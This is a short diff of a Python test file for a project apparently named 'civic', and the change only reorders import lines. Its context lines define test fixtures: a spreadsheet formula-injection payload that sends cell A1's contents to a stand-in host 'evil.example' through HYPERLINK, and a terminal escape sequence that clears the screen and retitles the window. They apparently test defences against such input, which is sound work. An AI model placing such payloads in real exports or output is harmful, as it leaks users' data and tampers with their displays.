@@ -13,13 +13,13 @@ import tomllib
 from pathlib import Path
 
 import pytest
+from conftest import DATA, prepared
+from test_data_entry_app import signed_in_app
+from test_intake import GOOD, GOOD2, HEADER, csv_bytes
 
 from civic import accounts, database, history, reads, store
 from civic.cli import main
 from civic.text import FORMULA_START
-from conftest import DATA, prepared
-from test_data_entry_app import signed_in_app
-from test_intake import GOOD, GOOD2, HEADER, csv_bytes
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"点击")'
 ESCAPE = "\x1b[2J\x1b]0;owned\x07"
